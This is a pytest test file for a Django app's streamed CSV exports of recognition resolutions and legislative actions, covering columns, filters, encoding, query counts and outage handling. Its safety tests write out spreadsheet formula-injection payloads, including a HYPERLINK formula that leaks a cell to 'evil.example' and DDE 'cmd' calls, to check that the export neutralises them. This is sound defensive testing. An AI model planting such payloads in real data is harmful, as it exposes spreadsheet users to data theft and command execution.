"""The CSV export: the filtered list's exact rows, streamed, UTF-8, safe to open in a spreadsheet."""

import codecs
import csv
import datetime
import io
import math

import pytest
from django.db import OperationalError, connection
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from recognition import citations, exports
from recognition.models import Action, Jurisdiction, Resolution, Source
from tests import progress_records
from tests.conftest import PlaceFactory, ResolutionFactory, get_county, get_state
from tests.outage import Outage, fresh_breaker, request_in_own_thread
from tests.test_list import listed

CSV_URL = "/resolutions.csv"
STARTER_CSV = "recognition/data/starter_dataset.csv"


def _starter_published():
    """How many starter rows are public (a source link, confidence not low), read from the file itself."""
    with open(STARTER_CSV, encoding="utf-8-sig", newline="") as handle:
        return sum(1 for row in csv.DictReader(handle) if row["source_url"] and row["confidence"] != "low")


STARTER_PUBLISHED = _starter_published()
# The public CSV's columns as newsrooms' scripts read them, in this order: the contract. Copied from the
# header the export wrote before issue 18 added columns; a new column is only ever appended after these.
EXISTING_HEADER = [
    "id",
    "jurisdiction",
    "state",
    "fips",
    "county_fips",
    "level",
    "population",
    "population_year",
    "kind",
    "status",
    "stage",
    "introduced_on",
    "adopted_on",
    "effective_on",
    "latest_action",
    "latest_action_on",
    "session",
    "session_ended",
    "identifier",
    "title",
    "summary",
    "body",
    "source_urls",
    "last_verified_on",
    "url",
]
# Issue 18's columns, appended (the permanent link and last_verified_on were there already: `url`, and
# `last_verified_on`).
HEADER = [*EXISTING_HEADER, "confidence", "source_title"]


def download(client, params=None):
    response = client.get(CSV_URL, params or {})
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content)
    return response, body


def read_csv(body):
    """(header, [row dicts]) from the downloaded bytes."""
    assert body.startswith(codecs.BOM_UTF8)
    reader = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def csv_rows(client, params=None):
    _response, body = download(client, params)
    return read_csv(body)[1]


class TestNeutralise:
    @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
    def test_dangerous_first_characters_get_a_quote(self, first):
        assert exports.neutralise(f"{first}1+1") == f"'{first}1+1"

    @pytest.mark.parametrize(
        "value, expected",
        [
            ("Resolution 2020-R-026", "Resolution 2020-R-026"),
            ("a=b", "a=b"),
            (" =1", " =1"),
            ("", ""),
            (None, ""),
            (42, "42"),
            ("'quoted", "'quoted"),
            ("HB 414", "HB 414"),
        ],
    )
    def test_everything_else_is_unchanged(self, value, expected):
        assert exports.neutralise(value) == expected

    @given(st.text())
    def test_never_starts_a_formula_and_loses_nothing(self, text):
        cell = exports.neutralise(text)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell in (text, "'" + text)


# Searches of the list a CSV download follows: filters, text, each ordering's direction.
SEARCHES = [
    {},
    {"state": ["AL"]},
    {"state": ["CO", "WV"], "level": ["county"], "ordering": "jurisdiction"},
    {"kind": ["statute"], "ordering": "-adopted"},
    {"status": ["introduced", "failed"], "ordering": "state"},
    {"adopted_after": "2021-01-01", "adopted_before": "2022-12-31", "ordering": "adopted"},
    {"q": "Hanceville"},
    {"state": ["WY"]},
]


@pytest.mark.django_db
class TestSameRowsAsTheList:
    @pytest.mark.parametrize("params", SEARCHES)
    def test_same_rows_same_order(self, client, starter_dataset, params):
        _response, listed_ids = listed(client, params)
        exported_ids = [int(row["id"]) for row in csv_rows(client, params)]
        assert exported_ids == listed_ids

    def test_page_parameter_is_ignored(self, client, starter_dataset):
        assert len(csv_rows(client, {"page": "2"})) == STARTER_PUBLISHED

    def test_only_published_records(self, client, starter_dataset):
        draft = ResolutionFactory(published=False, title="Unpublished draft")
        rows = csv_rows(client)
        assert len(rows) == Resolution.objects.filter(published=True).count() == STARTER_PUBLISHED
        assert str(draft.pk) not in {row["id"] for row in rows}


@pytest.mark.django_db
class TestColumns:
    def test_header(self, client, starter_dataset):
        _response, body = download(client)
        header, _rows = read_csv(body)
        assert header == HEADER == exports.HEADER

    @pytest.mark.parametrize("params", [{}, {"state": ["WY"]}], ids=["rows", "no rows"])
    def test_existing_columns_keep_their_names_and_order(self, client, starter_dataset, params):
        """Append only: every existing column keeps its name and its place, whatever is added after them."""
        _response, body = download(client, params)
        header, _rows = read_csv(body)
        assert header[: len(EXISTING_HEADER)] == EXISTING_HEADER

    def test_confidence_and_source_title_are_the_starter_files(self, client, starter_dataset):
        """Each record's confidence and primary source's title, as the cited starter file gives them."""
        with open(STARTER_CSV, encoding="utf-8-sig") as handle:
            source = {
                (row["jurisdiction"], row["identifier"], row["title"]): row for row in csv.DictReader(handle)
            }
        rows = csv_rows(client)
        assert len(rows) == STARTER_PUBLISHED
        for row in rows:
            original = source[(row["jurisdiction"], row["identifier"], row["title"])]
            assert row["confidence"] == original["confidence"] != "low"
            assert row["source_title"] == original["source_title"].strip(), row["title"]
        assert {row["confidence"] for row in rows} == {"high", "medium"}

    def test_partial_dates_keep_their_precision(self, client, starter_dataset):
        """Every exported date is exactly what the cited starter file says, at its precision."""
        with open(STARTER_CSV, encoding="utf-8") as handle:
            source = {
                (row["jurisdiction"], row["identifier"], row["title"]): row for row in csv.DictReader(handle)
            }
        rows = csv_rows(client)
        for row in rows:
            original = source[(row["jurisdiction"], row["identifier"], row["title"])]
            for column in ("introduced_on", "adopted_on", "effective_on"):
                assert row[column] == original[column], (row["title"], column)
        by_identifier = {row["identifier"]: row for row in rows}
        assert by_identifier["HB 414 (Act 2022-387)"]["adopted_on"] == "2022-04-18"
        assert by_identifier["S7121 / A7366-A (Chapter 426 of 2021)"]["adopted_on"] == "2021-09"
        assert by_identifier["HB 1090 (86th Leg., R.S.)"]["adopted_on"] == "2019"

    def test_fips_of_each_level(self, client, starter_dataset):
        rows = {(row["jurisdiction"], row["state"]): row for row in csv_rows(client, {"state": "AL"})}
        assert rows[("Alabama", "AL")]["fips"] == "01"
        assert rows[("Alabama", "AL")]["county_fips"] == ""
        assert rows[("Mobile County", "AL")]["fips"] == "01097"
        mobile = Jurisdiction.objects.get(fips="01097")
        assert rows[("Mobile County", "AL")]["population"] == str(mobile.population)
        assert rows[("Mobile County", "AL")]["population_year"] == "2022"
        assert rows[("Mobile County", "AL")]["county_fips"] == ""
        city = rows[("City of Mobile", "AL")]
        assert city["fips"] == "", "a city has no FIPS code of its own here"
        assert city["county_fips"] == "01097"
        assert city["level"] == "place"
        district = rows[("Jefferson County 911 Emergency Communications District", "AL")]
        assert district["level"] == "district"
        assert (
            district["county_fips"]
            == Jurisdiction.objects.get(name="Jefferson County", parent__usps="AL").fips
        )

    def test_federal_rows(self, client, starter_dataset):
        rows = csv_rows(client, {"level": "nation"})
        assert len(rows) == 9
        assert {(row["state"], row["fips"], row["county_fips"], row["level"]) for row in rows} == {
            ("", "", "", "nation")
        }

    def test_row_contents(self, client, starter_dataset):
        law = Resolution.objects.get(identifier="HB 414 (Act 2022-387)")
        law.last_verified_on = datetime.date(2025, 1, 15)
        law.save()
        Source.objects.create(resolution=law, url="https://example.org/second", title="Second source")
        Source.objects.create(resolution=law, title="A source with no link")
        row = next(row for row in csv_rows(client, {"state": "AL"}) if row["id"] == str(law.pk))
        urls = [source.url for source in law.sources.all() if source.url]
        assert len(urls) == 2
        assert row["source_urls"] == " | ".join(urls)
        assert row["url"] == f"http://testserver{law.get_absolute_url()}"
        assert row["last_verified_on"] == "2025-01-15"
        assert (row["kind"], row["status"], row["title"], row["body"]) == (
            law.kind,
            law.status,
            law.title,
            law.body,
        )
        assert row["summary"] == law.summary
        assert row["confidence"] == law.confidence
        # The source it was imported with: its first with a link, not a later one.
        assert (
            row["source_title"] == law.sources.exclude(url="").order_by("pk").first().title != "Second source"
        )

    def test_source_title_is_the_first_linked_source_s_the_one_its_citation_names(self, client, db):
        untitled = ResolutionFactory(sources=[])
        Source.objects.create(resolution=untitled, url="https://example.org/untitled")
        Source.objects.create(resolution=untitled, url="https://example.org/titled", title="A later title")
        unlinked_first = ResolutionFactory(sources=[])
        Source.objects.create(resolution=unlinked_first, title="Minutes on paper")
        Source.objects.create(resolution=unlinked_first, url="https://example.org/linked", title="Linked")
        only_unlinked = ResolutionFactory(sources=[])  # published by hand here: the admin would want a link
        Source.objects.create(resolution=only_unlinked, title="Minutes on paper")
        none = ResolutionFactory(sources=[])
        rows = {int(row["id"]): row for row in csv_rows(client)}
        assert rows[untitled.pk]["source_title"] == ""
        assert rows[untitled.pk]["source_urls"] == "https://example.org/untitled | https://example.org/titled"
        assert rows[unlinked_first.pk]["source_title"] == "Linked"
        assert rows[unlinked_first.pk]["source_urls"] == "https://example.org/linked"
        assert rows[none.pk]["source_title"] == rows[none.pk]["source_urls"] == ""
        assert rows[only_unlinked.pk]["source_title"] == "Minutes on paper"
        for resolution in (untitled, unlinked_first, only_unlinked, none):
            source = citations.primary_source(resolution)
            assert rows[resolution.pk]["source_title"] == (source.title if source else "")

    def test_the_admin_export_adds_published_after_the_public_columns(self, editor_client, db):
        draft = ResolutionFactory(published=False, confidence="low")
        response = editor_client.get(reverse("admin:recognition_resolution_export"))
        header, rows = read_csv(b"".join(response.streaming_content))
        assert header == [*HEADER, "published"]
        assert [(row["id"], row["confidence"], row["published"]) for row in rows] == [
            (str(draft.pk), "low", "no")
        ]


@pytest.mark.django_db
class TestSafety:
    @pytest.mark.parametrize(
        "dangerous",
        [
            '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_formulas_are_neutralised(self, client, dangerous):
        resolution = ResolutionFactory(
            title=dangerous, summary=dangerous, identifier=dangerous, body=dangerous
        )
        (row,) = csv_rows(client)
        assert row["id"] == str(resolution.pk)
        for column in ("title", "summary", "identifier", "body"):
            assert row[column] == "'" + dangerous

    def test_a_formula_in_a_source_title_is_neutralised(self, client):
        dangerous = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
        resolution = ResolutionFactory(sources=[])
        Source.objects.create(resolution=resolution, url="https://example.org/a", title=dangerous)
        (row,) = csv_rows(client)
        assert row["source_title"] == "'" + dangerous

    def test_dona_ana_round_trips_as_utf8(self, client):
        dona_ana = get_county("35013")
        assert dona_ana.name == "Doña Ana County"
        ResolutionFactory(
            jurisdiction=dona_ana,
            title="Doña Ana County honors its telecommunicators",
            summary="Año 2024 – “quoted”",
        )
        _response, body = download(client, {"state": "NM"})
        assert "Doña Ana County".encode() in body
        (row,) = read_csv(body)[1]
        assert row["jurisdiction"] == "Doña Ana County"
        assert row["title"] == "Doña Ana County honors its telecommunicators"
        assert row["summary"] == "Año 2024 – “quoted”"

    def test_commas_quotes_and_newlines_survive(self, client):
        ResolutionFactory(title='Resolution "A", part 1', summary="Line one\nline two, with a comma")
        (row,) = csv_rows(client)
        assert row["title"] == 'Resolution "A", part 1'
        assert row["summary"] == "Line one\nline two, with a comma"


@pytest.mark.django_db
class TestResponse:
    def test_streamed_attachment_with_todays_date(self, client, starter_dataset):
        response, body = download(client)
        assert isinstance(response, StreamingHttpResponse)
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        today = timezone.localdate().isoformat()
        assert response["Content-Disposition"] == f'attachment; filename="dispatcher-recognition-{today}.csv"'
        assert body.startswith(codecs.BOM_UTF8)

    @pytest.mark.parametrize(
        "params, message",
        [
            (
                {"state": "ZZ"},
                "State or territory: Select a valid choice. ZZ is not one of the available choices.",
            ),
            ({"adopted_after": "2022-02-30"}, "Adopted on or after: Enter a valid date."),
            ({"q": "a\x00b"}, "Search: Null characters are not allowed."),
            (
                {"ordering": "nope"},
                "Sort by: Select a valid choice. nope is not one of the available choices.",
            ),
        ],
    )
    def test_bad_parameters_are_a_plain_text_400(self, client, params, message):
        response = client.get(CSV_URL, params)
        assert response.status_code == 400
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        text = response.content.decode()
        assert message in text
        assert "\x00" not in text

    def test_all_errors_listed(self, client):
        text = client.get(CSV_URL, {"state": "A\x00L", "adopted_before": "2022-13-01"}).content.decode()
        assert "- State or territory:" in text and "- Adopted on or before:" in text
        assert "\x00" not in text


@pytest.mark.django_db
class TestQueryBudget:
    def count_queries(self, client, django_assert_max_num_queries, budget, params=None):
        with django_assert_max_num_queries(budget) as captured:
            response = client.get(CSV_URL, params or {})
            rows = read_csv(b"".join(response.streaming_content))[1]
        return rows, len(captured)

    @pytest.mark.parametrize("chunk_size", [7, 25, 2000])
    def test_at_most_four_plus_one_per_batch(
        self, client, starter_dataset, monkeypatch, django_assert_max_num_queries, chunk_size
    ):
        monkeypatch.setattr(exports, "CSV_CHUNK_SIZE", chunk_size)
        batches = math.ceil(STARTER_PUBLISHED / chunk_size)
        rows, _count = self.count_queries(client, django_assert_max_num_queries, 4 + batches)
        assert len(rows) == STARTER_PUBLISHED

    def test_queries_do_not_grow_with_rows(self, client, starter_dataset, django_assert_max_num_queries):
        _rows, small = self.count_queries(client, django_assert_max_num_queries, 5)
        for usps in ["AL", "TX", "NM"]:
            state = get_state(usps)
            county = state.children.filter(level="county").first()
            ResolutionFactory.create_batch(40, jurisdiction=PlaceFactory(parent=state, county=county))
            ResolutionFactory.create_batch(40, jurisdiction=county)
        rows, large = self.count_queries(client, django_assert_max_num_queries, 5)
        assert len(rows) == STARTER_PUBLISHED + 240
        assert large == small


@pytest.mark.django_db
class TestDatabaseOutage:
    """The first batch is read before the response starts: an outage is a 503, never a 200 that breaks off."""

    @pytest.fixture(autouse=True)
    def _own_breaker(self, monkeypatch):
        fresh_breaker(monkeypatch)

    @pytest.mark.parametrize("query", ["", "?state=AL", "?q=dispatchers&state=TX"])
    def test_unreachable_database_is_a_503_before_any_byte(self, monkeypatch, query):
        outage = Outage(monkeypatch)
        outage.down = True
        response = request_in_own_thread(CSV_URL + query)
        assert response.status_code == 503
        assert response["Retry-After"] == "30"
        assert not response.streaming
        assert "jurisdiction" not in response.content.decode()  # no CSV header went out
        assert outage.attempts == 1

    def test_a_first_query_that_fails_is_a_503(self, client, starter_dataset):
        """The connection is open but the server fails the first statement (it is going away)."""

        def fail(execute, sql, params, many, context):
            raise OperationalError("server closed the connection unexpectedly (simulated)")

        client.raise_request_exception = False
        with connection.execute_wrapper(fail):
            response = client.get(CSV_URL, {"state": "AL"})
        assert response.status_code == 503
        assert response["Retry-After"] == "30"
        assert not response.streaming

    def test_no_match_is_the_header_alone(self, client, starter_dataset):
        header, rows = read_csv(download(client, {"adopted_after": "2999-01-01"})[1])
        assert header == HEADER and rows == []


# --- stages, sessions and actions (issue 15) ---------------------------------------------------------


@pytest.fixture
def records(db):
    return progress_records.build()


@pytest.mark.django_db
class TestProgressColumns:
    def test_stage_latest_action_and_session_of_each_record(self, client, records):
        rows = {int(row["id"]): row for row in csv_rows(client)}
        published = [record for record in records if record.published]
        assert set(rows) == {record.pk for record in published}
        for record in published:
            row = rows[record.pk]
            session = record.resolution.session
            assert (row["stage"], row["latest_action"], row["latest_action_on"]) == (
                record.stage,
                record.latest_description,
                record.latest_written,
            ), record.key
            assert row["session"] == (session.name if session else ""), record.key
            assert row["session_ended"] == ("yes" if record.session_ended else "no"), record.key

    def test_month_precision_stays_a_month(self, client, records):
        s725 = progress_records.by_key(records)["S. 725"]
        (row,) = [row for row in csv_rows(client, {"stage": "passed_upper"}) if row["id"] == str(s725.pk)]
        assert row["latest_action_on"] == "2025-09"

    def test_a_latest_action_that_looks_like_a_formula_is_neutralised(self, client, records):
        s725 = progress_records.by_key(records)["S. 725"].resolution
        progress_records.add_action(s725, "2025-10-01", "referral-committee", "lower", "=HYPERLINK(1)")
        (row,) = csv_rows(client, {"stage": "passed_upper", "level": "nation"})
        assert row["latest_action"] == "'=HYPERLINK(1)"


ACTIONS_URL = "/actions.csv"
ACTION_HEADER = [
    "id",
    "level",
    "state",
    "jurisdiction",
    "identifier",
    "date",
    "chamber",
    "classification",
    "description",
    "source_url",
    "resolution_id",
    "resolution_url",
]


def action_rows(client, params=None):
    response = client.get(ACTIONS_URL, params or {})
    assert response.status_code == 200, response
    header, rows = read_csv(b"".join(response.streaming_content))
    assert header == ACTION_HEADER
    return rows


def expected_action_rows(records, keep=lambda record: True):
    """Every action of the published records, by measure, then in the order the stage rules read them (a
    month or year after the days of its period): each cell as the record wrote it."""
    rows = []
    for record in sorted(records, key=lambda record: record.pk):
        if not (record.published and keep(record)):
            continue
        resolution = record.resolution
        jurisdiction = resolution.jurisdiction
        steps = sorted(
            zip(record.steps, record.actions, strict=True),
            key=lambda pair: pair[1].step.sort_key,
        )
        for (when, classification, chamber), action in steps:
            rows.append(
                {
                    "id": str(action.pk),
                    "level": jurisdiction.level,
                    "state": record.state,
                    "jurisdiction": jurisdiction.name,
                    "identifier": resolution.identifier,
                    "date": when,
                    "chamber": chamber,
                    "classification": classification,
                    "description": action.description,
                    "source_url": action.source_url,
                    "resolution_id": str(resolution.pk),
                    "resolution_url": f"http://testserver/resolutions/{resolution.pk}/",
                }
            )
    return rows


@pytest.mark.django_db
class TestActionsCsv:
    def test_every_action_of_every_published_measure(self, client, records):
        assert action_rows(client) == expected_action_rows(records)

    def test_no_action_of_a_draft(self, client, records):
        draft = progress_records.by_key(records)["HB 99 draft"]
        assert draft.actions
        assert str(draft.pk) not in {row["resolution_id"] for row in action_rows(client)}

    def test_streamed_utf8_attachment(self, client, records):
        response = client.get(ACTIONS_URL)
        assert isinstance(response, StreamingHttpResponse)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        today = timezone.localdate().isoformat()
        assert (
            response["Content-Disposition"]
            == f'attachment; filename="dispatcher-recognition-actions-{today}.csv"'
        )
        assert b"".join(response.streaming_content).startswith(codecs.BOM_UTF8)

    def test_formulas_are_neutralised(self, client, records):
        hb7 = progress_records.by_key(records)["HB 7"].resolution
        action = progress_records.add_action(hb7, "2024-03-05", "referral-committee", "upper", "@SUM(1+1)")
        (row,) = [row for row in action_rows(client) if row["id"] == str(action.pk)]
        assert row["description"] == "'@SUM(1+1)"

    def test_by_measure_and_classification(self, client, records):
        named = progress_records.by_key(records)
        one = named["SB 4"]
        assert action_rows(client, {"resolution": one.pk}) == expected_action_rows([one])
        two = [named["SB 4"], named["HB 3"]]
        assert action_rows(client, {"resolution": [r.pk for r in two]}) == expected_action_rows(two)
        passages = action_rows(client, {"classification": "passage"})
        assert passages == [
            row for row in expected_action_rows(records) if row["classification"] == "passage"
        ]

    @pytest.mark.parametrize("value", ["abc", "999999", "draft", "9223372036854775808", "9" * 40, "0", "-1"])
    def test_a_bad_or_unpublished_measure_is_a_plain_400(self, client, records, value):
        if value == "draft":
            value = progress_records.by_key(records)["HB 99 draft"].pk
        response = client.get(ACTIONS_URL, {"resolution": value})
        assert response.status_code == 400
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert "- Measure: " in response.content.decode()

    def test_a_bad_classification_is_a_plain_400(self, client, records):
        response = client.get(ACTIONS_URL, {"classification": "signed"})
        assert response.status_code == 400
        assert "- Classification: Select a valid choice. signed is not one of the available choices." in (
            response.content.decode()
        )

    @pytest.mark.parametrize("chunk_size", [5, 2000])
    def test_one_query_however_many_actions(
        self, client, records, monkeypatch, django_assert_num_queries, chunk_size
    ):
        monkeypatch.setattr(exports, "CSV_CHUNK_SIZE", chunk_size)
        with django_assert_num_queries(1):
            before = action_rows(client)
        progress_records.build_more(records, n=20)
        with django_assert_num_queries(1):
            after = action_rows(client)
        assert len(after) == len(before) + 40 == Action.objects.filter(resolution__published=True).count()
